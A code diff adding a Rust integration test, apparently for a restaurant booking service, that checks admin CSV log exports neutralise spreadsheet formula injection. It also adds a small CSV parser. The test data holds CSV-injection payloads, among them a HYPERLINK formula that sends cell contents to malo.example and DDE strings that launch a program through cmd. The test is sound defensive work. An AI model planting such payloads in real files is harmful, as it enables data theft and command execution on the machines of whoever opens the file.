@@ -39,6 +39,36 @@ async fn anotar(
     }
 }
 
+/// The cells of a CSV file, row by row (RFC 4180: a quoted field may hold commas, doubled
+/// quotes and line breaks), the byte-order mark left out.
+fn celdas(texto: &str) -> Vec<Vec<String>> {
+    let (mut filas, mut fila, mut celda) = (Vec::new(), Vec::new(), String::new());
+    let mut letras = texto.trim_start_matches('\u{FEFF}').chars().peekable();
+    let mut entre_comillas = false;
+    while let Some(c) = letras.next() {
+        match c {
+            '"' if entre_comillas && letras.peek() == Some(&'"') => {
+                letras.next();
+                celda.push('"');
+            }
+            '"' if entre_comillas => entre_comillas = false,
+            '"' if celda.is_empty() => entre_comillas = true,
+            ',' if !entre_comillas => fila.push(std::mem::take(&mut celda)),
+            '\r' if !entre_comillas && letras.peek() == Some(&'\n') => {
+                letras.next();
+                fila.push(std::mem::take(&mut celda));
+                filas.push(std::mem::take(&mut fila));
+            }
+            _ => celda.push(c),
+        }
+    }
+    assert!(
+        celda.is_empty() && fila.is_empty(),
+        "the file ends with a line break"
+    );
+    filas
+}
+
 async fn csv(app: &TestApp, token: &str, ruta: &str) -> (u16, String, Vec<u8>) {
     let r = app
         .client
@@ -366,6 +396,52 @@ en_ambos! {
         app.post_json("/api/v1/admin/walkin", Some(&t), &walkin).await.es_exito_201();
         let d = coincide_con_las_listas(&app, &t).await;
         assert_eq!(d["walkins"].as_u64(), Some(antes["walkins"].as_u64().unwrap() + 1));
+    }
+
+    async fn a_cell_that_would_run_as_a_formula_reads_as_text_in_the_csv(motor: Motor) {
+        let app = spawn_app(motor).await;
+        crate::helpers::sin_mesas(&app, "polanco").await;
+        let t = app.token("gerente@demo.mx").await;
+        let polanco = app.id_sucursal("polanco").await;
+        // Guests book from the public page under names a spreadsheet would run.
+        let nombres = ["=HYPERLINK(\"http://malo.example/?x=\"&A1,\"Ver\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
+        let mut reservas = Vec::new();
+        for (i, name) in nombres.iter().enumerate() {
+            let cuerpo = json!({ "tag": "polanco", "name": name, "email": format!("huesped{i}@correo.mx"), "phone": "",
+                                 "fecha_hora": "2026-12-09 20:00", "no_personas": 2, "evento": "Ninguno", "comentarios": "", "origin": "Widget" });
+            let d = app.post_json("/api/v1/public/reservacion", None, &cuerpo).await.es_exito_201().clone();
+            let token = d["confirmacion"].as_str().unwrap().rsplit("?t=").next().unwrap().to_owned();
+            reservas.push((d["_id"].as_str().unwrap().to_owned(), token));
+        }
+        // The first cancels from their own page: the entry's author is that guest.
+        let (id, token) = &reservas[0];
+        app.post_json(&format!("/api/v1/public/reservacion/{id}/cancelar"), None, &json!({ "token": token })).await.es_exito();
+        // Entries another program wrote: an author that starts with a tab, a record with a carriage return.
+        anotar(&app, &polanco, "b1", "2026-03-10T18:00:00Z", "\t=1+1", ("walkin", "registrar"), "w1", (None, json!({ "name": "\r=2+2" }))).await;
+
+        let (status, _, cuerpo) = csv(&app, &t, "/api/v1/admin/logs/reserva?tag=polanco").await;
+        assert_eq!(status, 200);
+        let reserva = celdas(&String::from_utf8(cuerpo).unwrap());
+        let (_, _, cuerpo) = csv(&app, &t, "/api/v1/admin/logs/walkin?tag=polanco&desde=2026-03-10&hasta=2026-03-10").await;
+        let walkin = celdas(&String::from_utf8(cuerpo).unwrap());
+        assert_eq!(walkin.len(), 2, "{walkin:?}");
+        let todas: Vec<&String> = reserva.iter().chain(&walkin).flatten().collect();
+        assert!(todas.len() > 10);
+        // No cell begins as a formula does.
+        for celda in &todas {
+            assert!(!celda.starts_with(['=', '+', '-', '@', '\t', '\r']), "{celda:?}");
+        }
+        // Each still reads as the name it is, behind one apostrophe: the records, the guest as author.
+        let neutralizadas: Vec<String> = nombres.iter().map(|n| format!("'{n}"))
+            .chain([format!("'{} (cliente)", nombres[0]), "'\t=1+1".to_owned(), "'\r=2+2".to_owned()]).collect();
+        for esperada in &neutralizadas {
+            assert!(todas.contains(&esperada), "{esperada:?} en {todas:?}");
+        }
+        let cancelacion = reserva.iter().find(|f| f[2] == "Cancelación").expect("la cancelación");
+        assert_eq!((cancelacion[1].as_str(), cancelacion[3].as_str()), (neutralizadas[4].as_str(), neutralizadas[0].as_str()));
+        assert_eq!(&walkin[1][1..4], ["'\t=1+1", "Registro", "'\r=2+2"]);
+        // The changes column starts with a field's name and holds the name as it is.
+        assert!(reserva.iter().any(|f| f[4].contains(&format!("Nombre: {}", nombres[1]))));
     }
 }
 
